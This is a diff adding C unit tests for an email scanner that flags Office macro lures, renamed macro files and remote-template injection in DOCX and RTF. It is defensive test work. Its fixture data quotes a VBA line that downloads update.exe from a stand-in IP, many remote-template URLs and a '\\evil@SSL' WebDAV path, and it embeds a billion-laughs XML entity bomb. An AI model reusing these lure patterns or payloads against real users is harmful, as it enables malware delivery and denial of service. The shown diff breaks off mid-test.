@@ -1,14 +1,672 @@
 /*
- * check_office.c - Office macros and remote templates (scanners/lure/office.c)
+ * check_office.c - Office macros and remote templates (scanners/lure/office.c, vba.c)
+ *
+ * Four kinds of test. The Office fixture mails of tests/fixtures/lures_office.py
+ * (built into BUILD_DIR/fixtures/lures by make unit) scanned whole, as a
+ * mail admin reads them: which finding, at which part, saying what; the
+ * business macro documents only tagged; the look-alikes clean. Reports made
+ * here around one relationship part or one RTF document, for each rule of
+ * "a target on another machine". The VBA reader (vba.h) on a fixture and on
+ * hostile mutations of it: bounded, never a crash. And libxml2 given what
+ * an attacker would: a DTD with nested entities, a flood of relationships.
+ *
+ * The fixture scans need a libclamav engine for the container walk: loaded
+ * once per test case from moat's bundled signatures, as check_lure.c does.
  */
+#include <string.h>
+
 #include "checks.h"
+#include "helpers.h"
+#include "moat/av.h"
+#include "moat/bytes.h"
+#include "moat/lure.h"
+#include "moat/vba.h"
+
+#define LURES_DIR	BUILD_DIR "/fixtures/lures"	/* tests/fixtures/build.sh, run by make unit */
+
+static struct moat_conf *conf;	/* the defaults, [av] on moat's own signatures */
+
+static void
+office_setup(void)
+{
+	g_autofree char *err = NULL, *warn = NULL;
+
+	conf = t_conf_loadf("[av]\nsignature_dirs = %s/../conf/signatures\n"
+	    "[milter]\nspool_dir = %s\n", SAMPLES_DIR, g_get_tmp_dir());
+	ck_assert_msg(av_load(conf, &err, &warn) == 0, "av_load: %s", err);
+}
+
+static void
+office_teardown(void)
+{
+	av_unload();
+	g_clear_pointer(&conf, conf_free);
+}
+
+/* ids_of - REP's finding ids, " a b c" (caller g_free()s) */
+static char *
+ids_of(const struct moat_report *rep)
+{
+	GString *s = g_string_new(NULL);
+
+	for (guint i = 0; i < rep->findings->len; i++)
+		g_string_append_printf(s, " %s", ((struct moat_finding *)rep->findings->pdata[i])->id);
+	return g_string_free(s, FALSE);
+}
+
+/* finding_at - a finding ID whose path has an element containing TEXT (NULL: any), or NULL */
+static const struct moat_finding *
+finding_at(const struct moat_report *rep, const char *id, const char *text)
+{
+	for (guint i = 0; i < rep->findings->len; i++) {
+		const struct moat_finding *f = rep->findings->pdata[i];
+
+		if (strcmp(f->id, id) != 0)
+			continue;
+		if (text == NULL)
+			return f;
+		for (guint k = 0; f->path != NULL && k < f->path->len; k++)
+			if (strstr(f->path->pdata[k], text) != NULL)
+				return f;
+	}
+	return NULL;
+}
+
+static gboolean
+held(const struct moat_report *rep)
+{
+	return rep->verdict.action == MOAT_QUARANTINE || rep->verdict.action == MOAT_REJECT;
+}
+
+/* scan_fixture - the fixture mail NAME scanned under CONF; caller report_free()s */
+static struct moat_report *
+scan_fixture(const char *name)
+{
+	g_autofree char *path = g_build_filename(LURES_DIR, name, NULL);
+
+	ck_assert_msg(g_file_test(path, G_FILE_TEST_IS_REGULAR),
+	    "%s missing: run tests/fixtures/build.sh %s/fixtures", path, BUILD_DIR);
+	return t_scan_file(path, conf);
+}
+
+/* The fixtures: what the quarantine view shows ------------------------------------ */
+
+static const struct {
+	const char *mail, *id, *at;	/* finding ID on a part whose path holds AT */
+	const char *texts[3];		/* its evidence holds each (NULL: no more) */
+	const char *absent;		/* an id the mail must not show, or NULL */
+} office_evidence[] = {
+	{ "mail-office-macro.doc.eml", "lure.macro_autoexec", "Invoice_8812.doc",
+	    { "AutoOpen (module ThisDocument)", "powershell", "Shell" }, NULL },
+	{ "mail-office-macro.doc.eml", "lure.office_macro", "Invoice_8812.doc",
+	    { "storage Macros/VBA", "1 module (ThisDocument)", NULL }, "lure.macro_renamed" },
+	{ "mail-office-macro-dl.doc.eml", "lure.macro_autoexec", "Remittance.doc",
+	    { "Document_Open (module Module1)", "URLDownloadToFileA", "WScript.Shell" }, NULL },
+	{ "mail-office-macro.xls.eml", "lure.office_macro", "Statement_Q3.xls",
+	    { "storage _VBA_PROJECT_CUR/VBA", "ThisWorkbook", NULL }, NULL },
+	{ "mail-office-macro.xls.eml", "lure.macro_autoexec", "Statement_Q3.xls",
+	    { "Workbook_Open", "MSXML2.XMLHTTP", "cmd.exe" }, NULL },
+	{ "mail-office-macro.docm.eml", "lure.office_macro", "Invoice_8813.docm",
+	    { "in word/vbaProject.bin (storage VBA)", "ThisDocument", NULL }, "lure.macro_renamed" },
+	{ "mail-office-macro.xlsm.eml", "lure.macro_autoexec", "Payroll.xlsm",
+	    { "in xl/vbaProject.bin: Workbook_Open", "MSXML2.XMLHTTP", NULL }, NULL },
+	{ "mail-office-obfuscated.xlsm.eml", "lure.macro_autoexec", "Data.xlsm",
+	    { "auto_open", "CreateObject", "Chr() codes" }, NULL },
+	{ "mail-office-macro.pptm.eml", "lure.macro_autoexec", "Slides.pptm",
+	    { "Auto_Open", "StrReverse", "CallByName" }, NULL },
+	{ "mail-office-macro.msg.eml", "lure.office_macro", "Fwd Invoice 8815.msg",
+	    { "__attach_version1.0_#00000000/__substg1.0_37010102", "Macros/VBA", NULL }, NULL },
+	{ "mail-office-renamed.docx.eml", "lure.macro_renamed", "Contract.docx",
+	    { "macro-enabled OOXML", "named .docx", "cannot hold macros" }, "lure.macro_autoexec" },
+	{ "mail-office-renamed.xlsx.eml", "lure.macro_renamed", "Figures.xlsx",
+	    { "named .xlsx", NULL, NULL }, "lure.macro_autoexec" },
+	{ "mail-office-renamed.doc.eml", "lure.macro_renamed", "Order.doc",
+	    { "macro-enabled OOXML", "named .doc", "opens it by its content" }, NULL },
+	{ "mail-office-ole2-renamed.docx.eml", "lure.macro_renamed", "Minutes.docx",
+	    { "compound (OLE2)", "named .docx", NULL }, NULL },
+	{ "mail-office-docm.zip.eml", "lure.macro_renamed", "Invoice_8816.docx",
+	    { "named .docx", NULL, NULL }, NULL },
+	{ "mail-template-http.docx.eml", "lure.remote_template", "Invoice_8814.docx",
+	    { "attachedTemplate in word/_rels/settings.xml.rels",
+	    "http://198.51.100.23/templates/invoice.dotm", NULL },
+	    "lure.office_macro" },
+	{ "mail-template-https.docx.eml", "lure.remote_template", "Report.docx",
+	    { "HTTPS://cdn.example-docs.com/t/report.dotm?id=4412", NULL, NULL }, NULL },
+	{ "mail-template-unc.docx.eml", "lure.remote_template", "CV.docx",
+	    { "\\\\198.51.100.23\\share\\template.dotm", NULL, NULL }, NULL },
+	{ "mail-template-webdav.docx.eml", "lure.remote_template", "Agenda.docx",
+	    { "file://docs.example-cdn.net@SSL/", NULL, NULL }, NULL },
+	{ "mail-template-slashes.docx.eml", "lure.remote_template", "Notes.docx",
+	    { "//198.51.100.23/share/t.dotx", NULL, NULL }, NULL },
+	{ "mail-template-oleobject.docx.eml", "lure.remote_template", "Offer.docx",
+	    { "oleObject in word/_rels/document.xml.rels", "http://198.51.100.23/page.html!", NULL },
+	    NULL },
+	{ "mail-template-frame.docx.eml", "lure.remote_template", "Terms.docx",
+	    { "frame in word/_rels/webSettings.xml.rels", "frame.docx", NULL }, NULL },
+	{ "mail-template-rtf.doc.eml", "lure.remote_template", "Letter.doc",
+	    { "RTF template", "http://198.51.100.23/t.dotm", NULL }, NULL },
+	{ "mail-template-unc.rtf.eml", "lure.remote_template", "Letter.rtf",
+	    { "\\\\198.51.100.23\\share\\t.dotm", NULL, NULL }, NULL },
+	{ "mail-template-escaped.rtf.eml", "lure.remote_template", "Brief.rtf",
+	    { "http://198.51.100.23/t.dotm", NULL, NULL }, NULL },
+};
+
+/* Each lure: its finding at its part with its evidence, and held. */
+START_TEST(test_office_evidence)
+{
+	struct moat_report *rep = scan_fixture(office_evidence[_i].mail);
+	const struct moat_finding *f = finding_at(rep, office_evidence[_i].id, office_evidence[_i].at);
+	g_autofree char *got = ids_of(rep);
+
+	ck_assert_msg(f != NULL, "%s: no %s at '%s'; found:%s", office_evidence[_i].mail,
+	    office_evidence[_i].id, office_evidence[_i].at, got);
+	for (int k = 0; k < 3 && office_evidence[_i].texts[k] != NULL; k++)
+		ck_assert_msg(strstr(f->evidence, office_evidence[_i].texts[k]) != NULL,
+		    "%s: no \"%s\" in: %s", office_evidence[_i].mail, office_evidence[_i].texts[k],
+		    f->evidence);
+	if (office_evidence[_i].absent != NULL)
+		ck_assert_msg(report_has_finding(rep, office_evidence[_i].absent) == NULL, "%s: %s too:%s",
+		    office_evidence[_i].mail, office_evidence[_i].absent, got);
+	ck_assert_msg(held(rep), "%s: %s (score %d):%s", office_evidence[_i].mail,
+	    report_action_name(rep->verdict.action), rep->verdict.score, got);
+	report_free(rep);
+}
+END_TEST
+
+/* Macro documents as businesses send them: lure.office_macro only, tagged, not held. */
+static const char *const office_tagged[] = {
+	"mail-office-business.docm.eml", "mail-office-business.xlsm.eml",
+	"mail-office-business.doc.eml", "mail-office-business.xls.eml",
+};
+
+START_TEST(test_office_tagged)
+{
+	struct moat_report *rep = scan_fixture(office_tagged[_i]);
+	g_autofree char *got = ids_of(rep);
+
+	t_finding(rep, "lure.office_macro");
+	for (guint i = 0; i < rep->findings->len; i++) {
+		const struct moat_finding *f = rep->findings->pdata[i];
+
+		ck_assert_msg(strcmp(f->id, "lure.office_macro") == 0 || !g_str_has_prefix(f->id, "lure."),
+		    "%s: %s: %s", office_tagged[_i], f->id, f->evidence);
+	}
+	ck_assert_msg(rep->verdict.action == MOAT_TAG, "%s: %s (score %d), want tag:%s",
+	    office_tagged[_i], report_action_name(rep->verdict.action), rep->verdict.score, got);
+	report_free(rep);
+}
+END_TEST
+
+/* Look-alikes: no lure.* finding, not held. */
+static const char *const office_benign[] = {
+	"mail-office-plain.docx.eml", "mail-office-hyperlinks.docx.eml", "mail-office-normal.docx.eml",
+	"mail-office-local-template.docx.eml", "mail-office-fileserver.docx.eml",
+	"mail-office-plain.doc.eml", "mail-office-plain.xls.eml", "mail-office-plain.xlsx.eml",
+	"mail-office-extlink.xlsx.eml", "mail-office-plain.rtf.eml", "mail-office-normal.rtf.eml",
+};
+
+START_TEST(test_office_benign)
+{
+	struct moat_report *rep = scan_fixture(office_benign[_i]);
+
+	for (guint i = 0; i < rep->findings->len; i++) {
+		const struct moat_finding *f = rep->findings->pdata[i];
+
+		ck_assert_msg(!g_str_has_prefix(f->id, "lure."), "%s: %s at %s: %s", office_benign[_i],
+		    f->id, f->path_display, f->evidence);
+	}
+	ck_assert_msg(!held(rep), "%s: held (score %d)", office_benign[_i], rep->verdict.score);
+	report_free(rep);
+}
+END_TEST
+
+/*
+ * A docm whose vbaProject.bin was not kept ([limits] max_decoded_bytes):
+ * not read, still a macro document, and one renamed still says so
+ */
+START_TEST(test_office_unkept)
+{
+	g_autoptr(GString) text = g_string_new(NULL);
+	struct moat_conf *small;
+	struct moat_report *rep;
+	const struct moat_finding *f;
+
+	g_string_printf(text, "[av]\nsignature_dirs = %s/../conf/signatures\n[milter]\nspool_dir = %s\n"
+	    "[limits]\nmax_decoded_bytes = 4096\n", SAMPLES_DIR, g_get_tmp_dir());
+	small = t_conf_load(text->str);
+	rep = t_scan_file(LURES_DIR "/mail-office-renamed.docx.eml", small);
+	f = finding_at(rep, "lure.office_macro", "Contract.docx");
+	ck_assert_msg(f != NULL && strstr(f->evidence, "word/vbaProject.bin") != NULL &&
+	    strstr(f->evidence, "not kept") != NULL, "%s",
+	    f != NULL ? f->evidence : "no lure.office_macro at Contract.docx");
+	t_finding(rep, "lure.macro_renamed");
+	report_free(rep);
+	conf_free(small);
+}
+END_TEST
+
+/* Reports made here: one relationship part, one RTF document ----------------------- */
+
+/* package - a report of a DOCX-like zip holding member NAME with TEXT; caller report_free()s */
+static struct moat_report *
+package(const char *name, const char *text, gsize len)
+{
+	struct moat_report *rep = report_new();
+	g_autoptr(GPtrArray) path = g_ptr_array_new();
+	struct moat_part *p, *m;
+
+	g_ptr_array_add(path, (char *)"Letter.docx");
+	p = report_part_new(rep, path);
+	p->filename = g_strdup("Letter.docx");
+	p->sniffed = "zip";
+	p->content = g_bytes_new_static("PK\003\004", 4);
+	m = report_member_new(rep, p, "[Content_Types].xml");
+	m->content = g_bytes_new_static("<Types/>", 8);
+	m = report_member_new(rep, p, name);
+	m->sniffed = "xml";
+	m->content = g_bytes_new(text, len);
+	return rep;
+}
+
+/* one_doc - a report of one attachment NAME holding TEXT */
+static struct moat_report *
+one_doc(const char *name, const char *text)
+{
+	struct moat_report *rep = report_new();
+	g_autoptr(GPtrArray) path = g_ptr_array_new();
+	struct moat_part *p;
+
+	g_ptr_array_add(path, (char *)name);
+	p = report_part_new(rep, path);
+	p->filename = g_strdup(name);
+	p->content = g_bytes_new(text, strlen(text));
+	return rep;
+}
+
+#define REL_T	"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+#define RELS(rel) "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships " \
+	"xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" rel "</Relationships>"
+
+static const struct {
+	const char *type, *target, *mode;	/* a Relationship's attributes (mode NULL: none) */
+	gboolean remote;			/* lure.remote_template wanted */
+} office_targets[] = {
+	{ REL_T "attachedTemplate", "http://203.0.113.9/t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "https://templates.example.com/a.dotx", "External", TRUE },
+	{ REL_T "attachedTemplate", "HtTpS://x.example/a", "external", TRUE },
+	{ REL_T "attachedTemplate", "ftp://203.0.113.9/t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "\\\\203.0.113.9\\s\\t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "\\\\files.example.com\\s\\t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "\\\\evil@SSL\\DavWWWRoot\\t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "//203.0.113.9/s/t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "file://files.example.com/s/t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "file:///\\\\203.0.113.9\\s\\t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "file:////files.example.com/s/t.dotm", "External", TRUE },
+	{ REL_T "attachedTemplate", "  http://203.0.113.9/t.dotm", "External", TRUE },
+	{ "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
+	    "http://203.0.113.9/t.dotm", "External", TRUE },
+	{ REL_T "oleObject", "mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html",
+	    "External", TRUE },
+	{ REL_T "subDocument", "http://203.0.113.9/sub.docx", "External", TRUE },
+	{ REL_T "frame", "https://203.0.113.9/f.docx", "External", TRUE },
+	/* local, internal or not fetched: clean */
+	{ REL_T "attachedTemplate", "file:///C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\"
+	    "Normal.dotm", "External", FALSE },
+	{ REL_T "attachedTemplate", "file:///C:/Templates/Letter.dotx", "External", FALSE },
+	{ REL_T "attachedTemplate", "file://localhost/C:/Templates/Letter.dotx", "External", FALSE },
+	{ REL_T "attachedTemplate", "file:/C:/Templates/Letter.dotx", "External", FALSE },
+	{ REL_T "attachedTemplate", "C:\\Templates\\Letter.dotx", "External", FALSE },
+	{ REL_T "attachedTemplate", "Letter.dotx", "External", FALSE },
+	{ REL_T "attachedTemplate", "\\\\fileserver\\Templates\\Memo.dotx", "External", FALSE },
+	{ REL_T "attachedTemplate", "file:///\\\\fileserver\\Templates\\Memo.dotx", "External", FALSE },
+	{ REL_T "attachedTemplate", "\\\\?\\C:\\Templates\\Memo.dotx", "External", FALSE },
+	{ REL_T "attachedTemplate", "http://203.0.113.9/t.dotm", NULL, FALSE },
+	{ REL_T "attachedTemplate", "http://203.0.113.9/t.dotm", "Internal", FALSE },
+	{ REL_T "hyperlink", "http://203.0.113.9/setup.exe", "External", FALSE },
+	{ REL_T "image", "https://www.example.org/logo.png", "External", FALSE },
+	{ REL_T "externalLinkPath", "file:///\\\\files.example.com\\fin\\rates.xlsx", "External", FALSE },
+};
+
+START_TEST(test_office_targets)
+{
+	g_autofree char *mode = office_targets[_i].mode != NULL ?
+	    g_strdup_printf(" TargetMode=\"%s\"", office_targets[_i].mode) : g_strdup("");
+	g_autofree char *rels = g_strdup_printf(RELS("<Relationship Id=\"rId1\" Type=\"%s\" "
+	    "Target=\"%s\"%s/>"), office_targets[_i].type, office_targets[_i].target, mode);
+	struct moat_report *rep = package("word/_rels/settings.xml.rels", rels, strlen(rels));
+	const struct moat_finding *f;
+
+	lure_office_check(rep, conf);
+	f = report_has_finding(rep, "lure.remote_template");
+	if (office_targets[_i].remote) {
+		ck_assert_msg(f != NULL, "%s: not remote", office_targets[_i].target);
+		ck_assert_msg(strstr(f->evidence, "in word/_rels/settings.xml.rels loaded from") != NULL &&
+		    strcmp(f->path_display, "Letter.docx") == 0, "%s at %s", f->evidence,
+		    f->path_display);
+	} else {
+		ck_assert_msg(f == NULL, "%s %s: %s", office_targets[_i].type, office_targets[_i].target,
+		    f != NULL ? f->evidence : "");
+	}
+	report_free(rep);
+}
+END_TEST
+
+static const struct {
+	const char *rtf;
+	gboolean remote;
+} office_rtfs[] = {
+	{ "{\\rtf1{\\*\\template http://203.0.113.9/t.dotm}\\pard Hi\\par}", TRUE },
+	{ "{\\rtf1{\\*\\template  \\\\\\\\203.0.113.9\\\\s\\\\t.dotm}\\pard Hi\\par}", TRUE },
+	{ "{\\rtf1{\\*\\template h\\'74tp://203.0.113.9/\r\nt.dotm}}", TRUE },
+	{ "{\\rtf1{\\*\\template {\\field}https://x.example/t.dotm}}", TRUE },
+	{ "{\\rtxa{\\*\\template http://203.0.113.9/t.dotm}}", TRUE },	/* Word reads "{\rt" as RTF */
+	{ "{\\rtf1{\\*\\template C:\\\\Users\\\\bob\\\\Normal.dotm}\\pard Hi\\par}", FALSE },
+	{ "{\\rtf1{\\*\\template \\\\\\\\fileserver\\\\Templates\\\\Memo.dotx}}", FALSE },
+	{ "{\\rtf1\\pard the \\\\template http://203.0.113.9/t.dotm word\\par}", FALSE },
+	{ "{\\rtf1{\\*\\templatex http://203.0.113.9/t.dotm}}", FALSE },
+	{ "{\\rtf1\\pard see http://203.0.113.9/t.dotm\\par}", FALSE },
+	{ "{\\rtf1{\\*\\template http://203.0.113.9/t.dotm", TRUE },	/* cut short */
+	{ "{\\rtf1{\\*\\template", FALSE },
+	{ "Dear Bob, {\\*\\template http://203.0.113.9/t.dotm}", FALSE },	/* not RTF */
+};
+
+START_TEST(test_office_rtf)
+{
+	struct moat_report *rep = one_doc("Letter.doc", office_rtfs[_i].rtf);
+	const struct moat_finding *f;
+
+	lure_office_check(rep, conf);
+	f = report_has_finding(rep, "lure.remote_template");
+	ck_assert_msg((f != NULL) == office_rtfs[_i].remote, "%s: %s", office_rtfs[_i].rtf,
+	    f != NULL ? f->evidence : "no finding");
+	report_free(rep);
+}
+END_TEST
+
+/* libxml2 given a DTD of nested entities, a flood, a cut part: bounded, quick, no crash. */
+START_TEST(test_office_xml_hostile)
+{
+	static const char laughs[] = "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n"
+	    "<!ENTITY a \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\">\n"
+	    "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\n"
+	    "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\n"
+	    "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">\n"
+	    "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">\n"
+	    "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\n"
+	    "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">\n"
+	    "]>\n<Relationships><Relationship Id=\"r\" Type=\"" REL_T "attachedTemplate\" "
+	    "Target=\"http://203.0.113.9/&g;\" TargetMode=\"External\"/></Relationships>";
+	static const char rel[] = "<Relationship Id=\"r\" Type=\"" REL_T "hyperlink\" "
+	    "Target=\"https://www.example.org/\" TargetMode=\"External\"/>";
+	static const char bad[] = "<Relationship Id=\"t\" Type=\"" REL_T "attachedTemplate\" "
+	    "Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/>";
+	GString *flood = g_string_new("<Relationships>");
+	struct moat_report *rep;
+	gint64 t0 = g_get_monotonic_time();
+
+	rep = package("word/_rels/settings.xml.rels", laughs, sizeof(laughs) - 1);
+	lure_office_check(rep, conf);
+	ck_assert_ptr_null(report_has_finding(rep, "lure.remote_template"));	/* a DTD: not OPC */
+	report_free(rep);
+
+	/* 150,000 hyperlinks, then the template: past OFFICE_XML_ITEMS, not looked at */
+	for (int i = 0; i < 150000; i++)
+		g_string_append(flood, rel);
+	g_string_append(flood, bad);
+	g_string_append(flood, "</Relationships>");
+	rep = package("word/_rels/document.xml.rels", flood->str, flood->len);
+	lure_office_check(rep, conf);
+	report_free(rep);
+
+	/* the template first, then a part cut in the middle of a tag: recovered, found */
+	g_string_assign(flood, "<Relationships>");
+	g_string_append(flood, bad);
+	for (int i = 0; i < 1000; i++)
+		g_string_append(flood, rel);
+	rep = package("word/_rels/settings.xml.rels", flood->str, flood->len - 20);
+	lure_office_check(rep, conf);
+	t_finding(rep, "lure.remote_template");
+	report_free(rep);
+
+	/* not XML at all */
+	rep = package("word/_rels/settings.xml.rels", "\xff\xfe<\0R\0", 6);
+	lure_office_check(rep, conf);
+	ck_assert_uint_eq(rep->findings->len, 0);
+	report_free(rep);
+	g_string_free(flood, TRUE);
+	ck_assert_msg(g_get_monotonic_time() - t0 < 20 * G_USEC_PER_SEC, "%.1f s",
+	    (double)(g_get_monotonic_time() - t0) / G_USEC_PER_SEC);
+}
+END_TEST
+
+/* vba.h ----------------------------------------------------------------------------- */
+
+/* decompressed - vba_decompress() of the N bytes at IN as a string, *CLEAN set (caller g_free()s) */
+static char *
+decompressed(const guint8 *in, gsize n, gsize max, gboolean *clean)
+{
+	GByteArray *out = vba_decompress(in, n, max, clean);
+	char *s;
+
+	ck_assert_ptr_nonnull(out);
+	ck_assert_uint_le(out->len, max);
+	s = out->len > 0 ? g_strndup((const char *)out->data, out->len) : g_strdup("");
+	g_byte_array_unref(out);
+	return s;
+}
+
+/* MS-OVBA 2.4.1: literals, a copy token, a stored chunk; corrupt tokens stop it. */
+START_TEST(test_vba_decompress)
+{
+	/* "abc" then a copy of 6 from 3 back: token (3-1) << 12 | (6-3), 4 offset bits at 3 */
+	static const guint8 abc[] = { 0x01, 0x05, 0xb0, 0x08, 'a', 'b', 'c', 0x03, 0x20 };
+	static const guint8 first[] = { 0x01, 0x02, 0xb0, 0x01, 0x03, 0x20 };	/* a copy at 0 */
+	static const guint8 far[] = { 0x01, 0x05, 0xb0, 0x08, 'a', 'b', 'c', 0x03, 0x30 };	/* from 4 back */
+	static const guint8 cut[] = { 0x01, 0x05, 0xb0, 0x08, 'a', 'b', 'c', 0x03 };
+	guint8 stored[3 + 4096];
+	gboolean clean = FALSE;
+	char *s;
+	GByteArray *out;
+
+	s = decompressed(abc, sizeof(abc), 100, &clean);
+	ck_assert_str_eq(s, "abcabcabc");
+	ck_assert(clean);
+	g_free(s);
+	s = decompressed(abc, sizeof(abc), 5, &clean);	/* MAX stops it before the copy */
+	ck_assert_str_eq(s, "abc");
+	ck_assert(!clean);
+	g_free(s);
+	s = decompressed(first, sizeof(first), 100, &clean);
+	ck_assert_str_eq(s, "");
+	ck_assert(!clean);
+	g_free(s);
+	s = decompressed(far, sizeof(far), 100, &clean);
+	ck_assert_str_eq(s, "abc");
+	ck_assert(!clean);
+	g_free(s);
+	s = decompressed(cut, sizeof(cut), 100, &clean);
+	ck_assert_str_eq(s, "abc");
+	g_free(s);
+	stored[0] = 0x01;
+	stored[1] = 0xff;	/* size 4095 + 3, not compressed */
+	stored[2] = 0x3f;
+	for (guint i = 0; i < 4096; i++)
+		stored[3 + i] = (guint8)('A' + i % 26);
+	out = vba_decompress(stored, sizeof(stored), 1u << 20, &clean);
+	ck_assert_uint_eq(out->len, 4096);
+	ck_assert(clean);
+	ck_assert_int_eq(memcmp(out->data, stored + 3, 4096), 0);
+	g_byte_array_unref(out);
+	ck_assert_ptr_null(vba_decompress(abc + 1, sizeof(abc) - 1, 100, NULL));
+	ck_assert_ptr_null(vba_decompress(abc, 0, 100, NULL));
+}
+END_TEST
+
+/* fixture - the raw fixture NAME (written beside its mail); caller g_byte_array_unref()s */
+static GByteArray *
+fixture(const char *name)
+{
+	g_autofree char *path = g_build_filename(LURES_DIR, name, NULL);
+	gchar *data = NULL;
+	gsize len = 0;
+
+	ck_assert_msg(g_file_get_contents(path, &data, &len, NULL), "%s missing", path);
+	return g_byte_array_new_take((guint8 *)data, len);
+}
+
+/* The .doc lures_office.py wrote: one project, its module's source as written. */
+START_TEST(test_vba_read)
+{
+	GByteArray *doc = fixture("office-macro-dl.doc");
+	struct vba_file *f = vba_read(doc->data, doc->len);
+	const struct vba_module *m;
+
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(f->projects, 1);
+	ck_assert_str_eq(f->first, "Macros/VBA");
+	ck_assert_uint_eq(f->modules->len, 2);
+	ck_assert(!f->truncated);
+	m = f->modules->pdata[1];
+	ck_assert_str_eq(m->name, "Module1");
+	ck_assert_str_eq(m->project, "Macros/VBA");
+	ck_assert_ptr_nonnull(strstr(m->source, "Sub Document_Open()\r\n"));
+	ck_assert_ptr_nonnull(strstr(m->source, "URLDownloadToFileA 0, \"http://198.51.100.23/files/"
+	    "update.exe\", path, 0, 0\r\n"));
+	ck_assert_uint_eq(m->len, strlen(m->source));
+	vba_file_free(f);
+	g_byte_array_unref(doc);
+
+	doc = fixture("office-plain.doc");	/* a compound file, no project */
+	f = vba_read(doc->data, doc->len);
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(f->projects, 0);
+	ck_assert_uint_eq(f->modules->len, 0);
+	vba_file_free(f);
+	ck_assert_ptr_null(vba_read(doc->data, 511));
+	ck_assert_ptr_null(vba_read((const guint8 *)"PK\003\004", 4));
+	g_byte_array_unref(doc);
+}
+END_TEST
+
+/* entry_at - the offset of directory entry NAME in compound file D (this writer's: one chain) */
+static gsize
+entry_at(const GByteArray *d, const char *name)
+{
+	gsize dir = ((gsize)bytes_le32(d->data + 48) + 1) * 512;
+
+	for (gsize off = dir; off + 128 <= d->len; off += 128) {
+		char got[32];
+		guint n = MIN(bytes_le16(d->data + off + 64) / 2, 32);
+
+		for (guint i = 0; i < n; i++)
+			got[i] = (char)d->data[off + 2 * i];
+		if (n > 0 && strncmp(got, name, n - 1) == 0 && name[n - 1] == '\0')
+			return off;
+	}
+	ck_abort_msg("no entry %s", name);
+	return 0;
+}
+
+/* read_mutant - vba_read() of D, which must end quickly whatever it finds */
+static void
+read_mutant(const GByteArray *d, const char *what)
+{
+	gint64 t0 = g_get_monotonic_time();
+	struct vba_file *f = vba_read(d->data, d->len);
+
+	for (guint i = 0; f != NULL && i < f->modules->len; i++) {
+		const struct vba_module *m = f->modules->pdata[i];
+
+		ck_assert_uint_le(m->len, VBA_MAX_SOURCE);
+		ck_assert(m->source == NULL || m->source[m->len] == '\0');
+	}
+	vba_file_free(f);
+	ck_assert_msg(g_get_monotonic_time() - t0 < 2 * G_USEC_PER_SEC, "%s: %.1f s", what,
+	    (double)(g_get_monotonic_time() - t0) / G_USEC_PER_SEC);
+}
+
+/* put32 - the little-endian V at D's offset OFF */
+static void
+put32(GByteArray *d, gsize off, guint32 v)
+{
+	for (int i = 0; i < 4; i++)
+		d->data[off + i] = (guint8)(v >> (8 * i));
+}
+
+/* Loops in the FAT, the DIFAT and the directory, shared chains, cut files, flipped bytes. */
+START_TEST(test_vba_hostile)
+{
+	GByteArray *doc = fixture("office-macro-dl.doc"), *d;
+	guint32 dirsec = bytes_le32(doc->data + 48), fat0 = bytes_le32(doc->data + 76);
+	gsize fat = ((gsize)fat0 + 1) * 512, dir = ((gsize)dirsec + 1) * 512;
+	gsize word = entry_at(doc, "WordDocument");
+	GRand *rnd = g_rand_new_with_seed(15);
+
+	d = g_byte_array_new();
+#define MUTANT(what, ...) do { \
+		g_byte_array_set_size(d, 0); \
+		g_byte_array_append(d, doc->data, doc->len); \
+		__VA_ARGS__; \
+		read_mutant(d, what); \
+	} while (0)
+	MUTANT("directory chain loops", put32(d, fat + 4 * dirsec, dirsec));
+	MUTANT("FAT sector count huge, DIFAT loops", put32(d, 44, 0xfffffff0u);
+	    put32(d, 68, fat0); put32(d, 72, 0xffffffffu));
+	MUTANT("sibling cycle", put32(d, entry_at(doc, "dir") + 72, 1);
+	    put32(d, entry_at(doc, "1Table") + 72, (guint32)((entry_at(doc, "dir") - dir) / 128)));
+	MUTANT("child is the root", put32(d, entry_at(doc, "VBA") + 76, 0));
+	MUTANT("every stream on one long chain", for (gsize off = word; off + 128 <= d->len &&
+	    off < word + 128 * 11; off += 128) {
+		put32(d, off + 116, bytes_le32(doc->data + word + 116));
+		put32(d, off + 120, 0x7fffffffu);
+	});
+	MUTANT("mini stream cutoff 0", put32(d, 56, 0));
+	MUTANT("mini stream cutoff huge", put32(d, 56, 0xffffffffu));
+	MUTANT("mini FAT loops", put32(d, 60, bytes_le32(doc->data + 60));
+	    put32(d, fat + 4 * bytes_le32(doc->data + 60), bytes_le32(doc->data + 60)));
+	MUTANT("sector size 4096", d->data[30] = 12);
+	for (gsize cut = 0; cut < doc->len; cut += 97) {
+		g_autofree char *what = g_strdup_printf("cut at %" G_GSIZE_FORMAT, cut);
+
+		MUTANT(what, g_byte_array_set_size(d, cut));
+	}
